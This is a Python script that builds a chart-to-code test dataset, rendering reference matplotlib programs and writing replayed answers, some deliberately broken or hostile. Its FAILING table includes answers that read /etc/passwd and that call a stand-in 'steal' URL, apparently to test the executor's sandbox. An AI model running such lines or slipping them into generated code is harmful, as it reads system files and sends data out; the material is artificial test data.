"""Build the chart2code example: reference programs, their images, the manifest, and the
replayed answers (exact, recoloured, missing a panel, failing and hostile ones).

    .venv/bin/python examples/chart2code/make_dataset.py

Everything is drawn by the project's own programs (`programs.py`) through the
`matplotlib` executor and renderer, so the images are what the pipeline itself renders.
"""

from __future__ import annotations

import importlib.util
import json
import re
import shutil
import sys
import tempfile
from pathlib import Path

from visioncode import RenderSpec

HERE = Path(__file__).resolve().parent


def _programs() -> object:
    """programs.py beside this file, under a name of its own (other examples have a
    `programs` module too)."""
    name = "chart2code_programs"
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, HERE / "programs.py")
        assert spec and spec.loader
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


PROGRAMS: dict[str, str] = _programs().PROGRAMS  # type: ignore[attr-defined]
program = _programs().program  # type: ignore[attr-defined]

SPEC = RenderSpec(width=400, height=300, fit="contain", background="#ffffff")

#: Samples whose answer is the reference with every colour replaced.
RECOLOURED = {"bar-sales", "line-temperature", "pie-browsers"}
#: Samples whose answer drops a panel.
MISSING_PANEL = {"subplots-2x2"}
#: Samples whose answer fails or attacks (id -> program body).
FAILING = {
    "hist-scores": "import matplotlib.pyplot as plt\nplt.hist([1, 2, 2, 3]\n",
    "contour-hill": ("import matplotlib.pyplot as plt\nimport numpy as np\n"
                     "Z = np.exp(-(X ** 2))\nplt.contourf(Z)\n"),
    "quiver-field": "import numpy as np\nprint(np.arange(3))\n",
    "step-queue": ("import matplotlib.pyplot as plt\nplt.plot([1, 2])\nwhile True:\n"
                   "    pass\n"),
    "span-events": ("import matplotlib.pyplot as plt\n"
                    "secret = open('/etc/passwd').read()\nplt.title(secret[:40])\n"),
    "errorbar-trials": ("import matplotlib.pyplot as plt\nimport urllib.request\n"
                        "urllib.request.urlopen('http://example.com/steal', timeout=3)\n"
                        "plt.plot([1, 2])\n"),
}
PALETTE = ["#000000", "#7f7f7f", "#bcbd22", "#17becf", "#8c564b"]


def recolour(source: str) -> str:
    """The same chart with every hex colour and named colour map swapped."""
    count = iter(range(10_000))
    out = re.sub(r'"#[0-9A-Fa-f]{6}"', lambda _m: f'"{PALETTE[next(count) % len(PALETTE)]}"',
                 source)
    return out.replace('color="red"', 'color="black"')


def drop_panel(source: str) -> str:
    """The 2x2 chart with its last panel removed from the figure."""
    return source.replace('plt.tight_layout()', 'fig.delaxes(axs[1, 1])\nplt.tight_layout()')


def answer_for(chart_id: str) -> tuple[str, str]:
    """(kind, answer text) replayed for a chart."""
    reference = program(chart_id)
    if chart_id in FAILING:
        return "failing", f"```python\n{FAILING[chart_id]}```"
    if chart_id in RECOLOURED:
        return "recoloured", f"Here is the code:\n```python\n{recolour(reference)}```"
    if chart_id in MISSING_PANEL:
        return "missing-panel", f"```python\n{drop_panel(reference)}```"
    return "exact", f"```python\n{reference}```"


def main() -> None:
    from visioncode_plot.executor import MatplotlibExecutor
    from visioncode_plot.renderer import MatplotlibRenderer

    dataset = HERE / "dataset"
    shutil.rmtree(dataset, ignore_errors=True)
    (dataset / "programs").mkdir(parents=True)
    (dataset / "images").mkdir()
    executor, renderer = MatplotlibExecutor(), MatplotlibRenderer()
    rows, answers, revisions = [], [], []
    try:
        with tempfile.TemporaryDirectory() as tmp:
            for chart_id in sorted(PROGRAMS):
                source = program(chart_id)
                (dataset / "programs" / f"{chart_id}.py").write_text(source)
                work = Path(tmp) / chart_id
                execution = executor.execute(source, work)
                assert execution.ok, (chart_id, execution.error)
                rendering = renderer.render(execution, SPEC, work)
                assert rendering.ok and rendering.image, (chart_id, rendering.error)
                shutil.copyfile(rendering.image, dataset / "images" / f"{chart_id}.png")
                kind, text = answer_for(chart_id)
                rows.append({"id": chart_id, "image": f"images/{chart_id}.png",
                             "reference_program": f"programs/{chart_id}.py",
                             "meta": {"chart": chart_id.split("-")[0], "answer": kind}})
                answers.append({"sample_id": chart_id, "text": text})
                if chart_id in RECOLOURED:  # the revision loop: critique, then the fix
                    revisions += [
                        {"sample_id": chart_id, "round": 0, "text": text},
                        {"sample_id": chart_id, "round": 0, "purpose": "critique",
                         "text": "The layout and labels match, but every colour differs "
                                 "from the original: use the original chart's colours."},
                        {"sample_id": chart_id, "round": 1, "purpose": "revise",
                         "text": f"```python\n{source}```"}]
    finally:
        executor.close()
        renderer.close()
    (dataset / "samples.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    (dataset / "samples-revision.jsonl").write_text("".join(
        json.dumps(r) + "\n" for r in rows if r["id"] in RECOLOURED))
    replay = HERE / "replay"
    replay.mkdir(exist_ok=True)
    (replay / "answers.jsonl").write_text("".join(json.dumps(a) + "\n" for a in answers))
    (replay / "revision.jsonl").write_text("".join(json.dumps(a) + "\n" for a in revisions))
    print(f"wrote {len(rows)} charts to {dataset}")


if __name__ == "__main__":
    main()
